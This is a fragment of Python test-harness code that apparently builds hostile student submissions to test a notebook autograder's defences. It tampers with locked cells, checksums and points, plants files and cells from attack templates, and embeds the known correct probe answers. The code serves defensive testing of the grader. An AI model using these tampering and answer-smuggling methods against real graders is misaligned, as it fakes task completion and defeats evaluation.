    path = os.path.join(folder, "01-softmax.ipynb")
    nbformat.write(nbformat.read(path, as_version=4), path, version=3)


def _invalid_json(folder):
    with open(os.path.join(folder, "08-notes.ipynb"), "w") as f:
        f.write('{"cells": [ this is not json')


EDITS = {
    "locked_edited": lambda folder: _edit_notebook(folder, "01-softmax.ipynb", _locked_edited),
    "deleted": lambda folder: _edit_notebook(folder, "01-softmax.ipynb", _deleted),
    "unlocked": lambda folder: _edit_notebook(folder, "01-softmax.ipynb", _unlocked),
    "duplicated": lambda folder: _edit_notebook(folder, "01-softmax.ipynb", _duplicated),
    "repointed": lambda folder: _edit_notebook(folder, "01-softmax.ipynb", _repointed),
    "extra_grade_id": lambda folder: _edit_notebook(
        folder, "01-softmax.ipynb", lambda book: book.cells.append(_extra_cell("step01-bonus"))
    ),
    "extra_no_grade_id": lambda folder: _edit_notebook(
        folder, "01-softmax.ipynb", lambda book: book.cells.append(_extra_cell(None))
    ),
    "checksums": _checksums,
    "points": lambda folder: _edit_notebook(folder, "01-softmax.ipynb", _points),
    "markdown": lambda folder: _edit_notebook(folder, "01-softmax.ipynb", _markdown),
    "renamed": lambda folder: os.rename(
        os.path.join(folder, "01-softmax.ipynb"), os.path.join(folder, "01-softmax (1).ipynb")
    ),
    "invalid_json": _invalid_json,
    "nbformat3": _nbformat3,
}


# ── writing the class ──


def known_answers():
    """The visible softmax probes' correct answers, keyed by the input shifted to start at 0."""
    from checkpoints.diagnose import load_fingerprints
    from checkpoints.probes import PROBES

    correct = load_fingerprints()["softmax"]["correct"]
    return {
        tuple(round(x - p.args[0][0], 9) for x in p.args[0]): tuple(correct[p.id])
        for p in PROBES["softmax"]
    }


def fill(text, attack, root, port):
    """Attack code with its placeholders filled in."""
    return (
        text.replace("__ROOT__", root)
        .replace("__PORT__", str(int(port)))
        .replace("__STUDENT__", attack.student)
        .replace("__OUTSIDE__", OUTSIDE)
        .replace("__CANARY__", canary(attack.student))
        .replace("__KNOWN__", repr(known_answers()) if "__KNOWN__" in text else "")
    )


def _insert_cell(folder, attack, source):
    import nbformat

    def change(book):
        cell = nbformat.v4.new_code_cell(source.strip("\n"))
        if attack.at == "end":
            book.cells.append(cell)
        else:
            setup = next(
                k for k, c in enumerate(book.cells) if (_grade_id(c) or "").endswith("-setup")
            )
            book.cells.insert(setup + 1, cell)

    _edit_notebook(folder, attack.notebook, change)


def _edit_model(folder, attack, root, port):
    from grading.authoring.mistakes import replace_function

    path = os.path.join(folder, "model.py")
    with open(path, encoding="utf-8") as f:
        text = f.read()
    if attack.softmax:
        text = replace_function(text, "softmax", fill(attack.softmax, attack, root, port))
    if attack.header:
        text = text.replace("\nimport math\n", f"\nimport math\n{attack.header}\n", 1)
    if attack.model:
        text = (
            text.rstrip("\n") + "\n\n\n" + fill(attack.model, attack, root, port).strip("\n") + "\n"
        )
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)


def write_attack(attack, root, port=LISTEN_PORT):
    """One submission: its base, written as a learner would, then its attack. Returns its folder."""
    from grading import classroom
    from grading.authoring.mistakes import BUGGY
    from grading.judge.reference import REFERENCE_FILE

    root = os.path.abspath(root)
    replace = {"softmax": BUGGY["softmax.divide_by_max"][1]} if attack.base == W else None
    folder = classroom.write_submission(attack.student, replace=replace)
    if attack.outputs == "reference":
        classroom.write_outputs(folder, os.path.join(root, os.path.basename(REFERENCE_FILE)))
    if attack.softmax or attack.model or attack.header:
        _edit_model(folder, attack, root, port)
    if attack.cell:
        _insert_cell(folder, attack, fill(attack.cell, attack, root, port))
    for name, text in attack.files:
        with open(os.path.join(folder, name), "w", encoding="utf-8") as f:
            f.write(fill(text, attack, root, port).lstrip("\n"))
    if attack.edit:
        EDITS[attack.edit](folder)
    return folder


def write_hostile_class(root, port=LISTEN_PORT, only=None):
    """Write every hostile and honest-noise submission into <root>/submitted/<student>/attention/.

    The student edition must exist (grading.authoring.course.release()). Returns {student: Attack}.
    """
    from grading import classroom

    saved = classroom.SUBMITTED
    classroom.SUBMITTED = os.path.join(os.path.abspath(root), "submitted")
    try:
        written = {}
        for attack in selected(only):
            write_attack(attack, root, port)
            written[attack.student] = attack
        return written
    finally:
        classroom.SUBMITTED = saved
